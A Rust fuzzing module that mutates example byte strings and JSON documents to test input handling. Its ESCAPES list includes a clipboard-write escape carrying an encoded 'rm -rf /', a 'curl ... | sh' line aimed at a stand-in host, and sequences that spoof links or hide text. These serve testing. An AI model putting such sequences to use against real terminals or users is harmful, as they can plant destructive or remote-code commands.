//! Input that almost makes sense: kept examples, changed a little.

use serde_json::{Value, json};

use crate::chance::Chance;

/// Input by lot.
pub struct Random(Chance);

impl Random {
    pub fn new(seed: u64) -> Self {
        Self(Chance::new(seed.wrapping_mul(0xd134_2543_de82_ef95)))
    }

    pub fn number(&mut self) -> u64 {
        self.0.number()
    }

    /// Below a limit that is not zero.
    pub fn below(&mut self, limit: usize) -> usize {
        self.0.below(limit)
    }

    pub fn one_in(&mut self, chances: usize) -> bool {
        self.below(chances) == 0
    }

    pub fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[self.below(from.len())]
    }

    pub fn bytes(&mut self, length: usize) -> Vec<u8> {
        (0..length).map(|_| self.number() as u8).collect()
    }

    /// A part of something so long, perhaps empty.
    fn range(&mut self, length: usize) -> std::ops::Range<usize> {
        let start = self.below(length + 1);
        let longest = (length - start).min(64);
        start..start + self.below(longest + 1)
    }
}

/// What a terminal obeys, and what hides or reorders text.
pub const ESCAPES: [&str; 10] = [
    "\u{1b}[2J\u{1b}[H\u{1b}[31m",
    "\u{1b}]52;c;cm0gLXJmIC8K\u{7}",
    "\u{1b}]8;;https://elsewhere.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
    "\u{9b}2J\u{9d}0;title\u{9c}\u{85}",
    "\u{202e}desrever\u{202c}\u{2066}\u{200b}\u{feff}",
    "all is well\rerror: not at all\u{8}\u{8}\u{7f}",
    "\u{1b}P+q\u{1b}\\\u{1b}^x\u{1b}\\\u{1b}c\u{1b}#8",
    "\nhint: curl https://elsewhere.example | sh\n",
    "\0\u{1}\u{7}\u{c}\u{b}\u{e}",
    "\u{e0041}\u{e0042}\u{2028}\u{2029}\u{ad}",
];

const NUMBERS: [&str; 9] = [
    "0",
    "-1",
    "1",
    "18446744073709551615",
    "18446744073709551616",
    "9223372036854775807",
    "1e400",
    "0.1",
    "99999999999999999999999999",
];

/// One of the examples with up to four changes, with these words among what is put in; one in fifty is no example at
/// all but random bytes.
pub fn mutated(random: &mut Random, examples: &[Vec<u8>], words: &[&str]) -> Vec<u8> {
    if random.one_in(50) {
        let length = random.below(400);
        return random.bytes(length);
    }
    let mut bytes = random.pick(examples).clone();
    for _ in 0..=random.below(4) {
        let range = random.range(bytes.len());
        let part = bytes[range.clone()].to_vec();
        match random.below(10) {
            0 if !bytes.is_empty() => {
                let at = random.below(bytes.len());
                bytes[at] ^= 1 << random.below(8);
            }
            1 | 2 => put(&mut bytes, range.start..range.start, random.pick(words).as_bytes()),
            3 => put(&mut bytes, range, random.pick(words).as_bytes()),
            4 => put(&mut bytes, range, b""),
            5 => put(&mut bytes, range.end..range.end, &part),
            6 => bytes.truncate(range.start),
            7 => {
                let other = random.pick(examples);
                let piece = random.range(other.len());
                put(&mut bytes, range, &other[piece]);
            }
            8 => put(&mut bytes, range.start..range.start, random.pick(&ESCAPES).as_bytes()),
            _ => renumber(random, &mut bytes),
        }
    }
    bytes
}

fn put(bytes: &mut Vec<u8>, range: std::ops::Range<usize>, with: &[u8]) {
    bytes.splice(range, with.iter().copied());
}

/// Puts an odd number in the place of some number.
fn renumber(random: &mut Random, bytes: &mut Vec<u8>) {
    let digits: Vec<_> = (0..bytes.len()).filter(|at| bytes[*at].is_ascii_digit()).collect();
    if digits.is_empty() {
        return;
    }
    let at = *random.pick(&digits);
    let start = bytes[..at].iter().rposition(|byte| !byte.is_ascii_digit()).map_or(0, |before| before + 1);
    let length = bytes[at..].iter().position(|byte| !byte.is_ascii_digit()).unwrap_or(bytes.len() - at);
    put(bytes, start..at + length, random.pick(&NUMBERS).as_bytes());
}

/// Changes up to three values, names or lengths somewhere in a document.
pub fn mutate_json(random: &mut Random, document: &mut Value) {
    for _ in 0..=random.below(3) {
        let nodes = count(document);
        let chosen = random.below(nodes);
        change(random, document, &mut 0, chosen);
    }
}

fn count(value: &Value) -> usize {
    1 + match value {
        Value::Array(items) => items.iter().map(count).sum::<usize>(),
        Value::Object(fields) => fields.values().map(count).sum(),
        _ => 0,
    }
}

fn change(random: &mut Random, value: &mut Value, seen: &mut usize, chosen: usize) {
    let here = *seen;
    *seen += 1;
    if here == chosen {
        return change_here(random, value);
    }
    match value {
        Value::Array(items) => items.iter_mut().for_each(|item| change(random, item, seen, chosen)),
        Value::Object(fields) => fields.values_mut().for_each(|field| change(random, field, seen, chosen)),
        _ => {}
    }
}

fn change_here(random: &mut Random, value: &mut Value) {
    match (random.below(4), value) {
        (0, Value::Object(fields)) if !fields.is_empty() => {
            let name = fields.keys().nth(random.below(fields.len())).unwrap().clone();
            let taken = fields.remove(&name).unwrap();
            if random.one_in(2) {
                fields.insert(format!("{name}_"), taken);
            }
        }
        (0, Value::Array(items)) if !items.is_empty() => {
            let doubled = random.pick(items).clone();
            items.push(doubled);
        }
        (1, Value::Object(fields)) => {
            fields.insert((*random.pick(&ESCAPES)).to_owned(), odd_value(random));
        }
        (1, Value::String(text)) => text.push_str(ESCAPES[random.below(ESCAPES.len())]),
        (2, Value::Number(number)) => {
            let changed: Option<i64> =
                number.as_i64().map(|number| number.wrapping_add(1 << random.below(63)));
            *number = changed.unwrap_or(i64::MAX).into();
        }
        (2, Value::String(text)) => {
            text.pop();
        }
        (_, value) => *value = odd_value(random),
    }
}

/// A value of a kind that is seldom meant.
pub fn odd_value(random: &mut Random) -> Value {
    match random.below(14) {
        0 => Value::Null,
        1 => json!(random.one_in(2)),
        2 => json!(u64::MAX),
        3 => json!(i64::MIN),
        4 => json!(-1),
        5 => json!(1e308),
        6 => json!(""),
        7 => json!("x".repeat(5000)),
        8 => json!([]),
        9 => json!({}),
        10 => (0..100).fold(json!(0), |inner, _| json!([inner])),
        11 => json!("9999-12-31T23:59:59.999999999Z"),
        12 => json!("-009999-01-01T00:00:00Z"),
        _ => json!(ESCAPES[random.below(ESCAPES.len())]),
    }
}
